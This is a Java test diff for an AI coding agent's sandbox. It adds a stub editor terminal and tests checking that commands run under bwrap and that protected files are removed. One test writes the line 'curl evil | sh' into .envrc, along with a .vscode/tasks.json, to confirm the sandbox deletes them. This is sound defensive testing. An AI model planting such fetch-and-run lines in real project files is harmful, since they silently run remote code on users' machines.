@@ -87,7 +87,15 @@ class SandboxEndToEndTest {
         final AcpTestClient client;
         final String session;
 
+        /** Set before a command: the editor's terminal, which runs the command line it is handed. */
+        final Map<String, Process> terminals = new java.util.concurrent.ConcurrentHashMap<>();
+        final List<JsonNode> created = new CopyOnWriteArrayList<>();
+
         Agent(String answer, Map<String, String> overrides) {
+            this(answer, overrides, false);
+        }
+
+        Agent(String answer, Map<String, String> overrides, boolean terminal) {
             Map<String, String> env = WiredAgent.isolatedEnvironment(dir);
             env.put("HOME", home.toString());
             env.put("XDG_CONFIG_HOME", home.resolve("config").toString());
@@ -96,20 +104,58 @@ class SandboxEndToEndTest {
             agent = WiredAgent.fromEnvironment(dir.resolve("acp-state"), model, env);
             client = agent.client();
             client.onRequest(request -> {
-                if (!request.path("method").asString().equals("session/request_permission")) {
+                String method = request.path("method").asString();
+                if (method.startsWith("terminal/")) {
+                    return terminal(method, request.path("params"));
+                }
+                if (!method.equals("session/request_permission")) {
                     return AcpTestClient.editor(request);
                 }
                 asked.add(request.path("params"));
                 return Json.parse("{\"outcome\":{\"outcome\":\"selected\",\"optionId\":\"" + answer + "\"}}");
             });
-            // Without the editor's terminal: commands run here, so what they did is on disk to check.
-            client.request("initialize", AcpTestClient.ZED_INITIALIZE.replace("},\"terminal\":true,", "},"));
+            // Without the editor's terminal, commands run in the agent; with it, in this test's editor.
+            client.request("initialize", terminal ? AcpTestClient.ZED_INITIALIZE
+                    : AcpTestClient.ZED_INITIALIZE.replace("},\"terminal\":true,", "},"));
             session = client.newSession(app.toString(), null);
             client.request("session/set_mode", Json.object().put("sessionId", session).put("modeId", "auto"));
         }
 
         Agent(String answer) {
             this(answer, Map.of());
+        }
+
+        /** An editor's terminal: runs exactly the command line the agent hands it. */
+        private JsonNode terminal(String method, JsonNode params) {
+            try {
+                switch (method) {
+                    case "terminal/create" -> {
+                        created.add(params);
+                        List<String> line = new java.util.ArrayList<>(List.of(params.path("command").asString()));
+                        params.path("args").forEach(a -> line.add(a.asString()));
+                        Process process = new ProcessBuilder(line).directory(Path.of(params.path("cwd").asString()).toFile())
+                                .redirectErrorStream(true).start();
+                        process.getOutputStream().close();
+                        String id = "t" + terminals.size();
+                        terminals.put(id, process);
+                        return Json.object().put("terminalId", id);
+                    }
+                    case "terminal/wait_for_exit" -> {
+                        return Json.object().put("exitCode", terminals.get(params.path("terminalId").asString()).waitFor());
+                    }
+                    case "terminal/output" -> {
+                        Process process = terminals.get(params.path("terminalId").asString());
+                        String output = new String(process.getInputStream().readAllBytes());
+                        return Json.parse("{\"output\":" + Json.write(output) + ",\"truncated\":false,\"exitStatus\":{\"exitCode\":"
+                                + process.waitFor() + "}}");
+                    }
+                    default -> {
+                        return Json.object();
+                    }
+                }
+            } catch (IOException | InterruptedException e) {
+                throw new IllegalStateException(e.getMessage());
+            }
         }
 
         /** Runs {@code command} through run_command; returns the tool result the model read back. */
@@ -228,6 +274,34 @@ class SandboxEndToEndTest {
             assertEquals(0, agent.asked.size(), seen);
         }
         assertFalse(Files.exists(Path.of(scratch)), "the sandbox's /tmp is its own");
+    }
+
+    @Test
+    void theEditorsTerminalIsHandedTheSandboxedCommandLine() throws Exception {
+        Path outside = home.resolve("outside.txt");
+        try (Agent agent = new Agent("reject_once", Map.of(), true)) {
+            agent.run("echo through-terminal > inside.txt; echo changed > " + outside);
+            JsonNode create = agent.created.getFirst();
+            assertTrue(create.path("command").asString().endsWith("/bwrap"), create.toString());
+            List<String> args = new java.util.ArrayList<>();
+            create.path("args").forEach(a -> args.add(a.asString()));
+            int dashes = args.indexOf("--");
+            assertEquals(List.of("/bin/sh", "-c"), args.subList(dashes + 1, dashes + 3), create.toString());
+            assertEquals("through-terminal\n", Files.readString(app.resolve("inside.txt")));
+            assertFalse(Files.exists(outside), "the editor ran it sandboxed");
+        }
+    }
+
+    @Test
+    void aProtectedFileTheCommandCreatesIsRemovedAndReported() throws Exception {
+        try (Agent agent = new Agent("reject_once")) {
+            String seen = agent.run("echo 'curl evil | sh' > .envrc && mkdir -p .vscode && echo '{}' > .vscode/tasks.json && echo kept > plain.txt");
+            assertFalse(Files.exists(app.resolve(".envrc")), seen);
+            assertFalse(Files.exists(app.resolve(".vscode")), seen);
+            assertTrue(Files.exists(app.resolve("plain.txt")));
+            assertTrue(seen.contains("Removed .envrc, which the sandboxed command created: direnv runs it"), seen);
+            assertTrue(seen.contains("Removed .vscode"), seen);
+        }
     }
 
     @Test
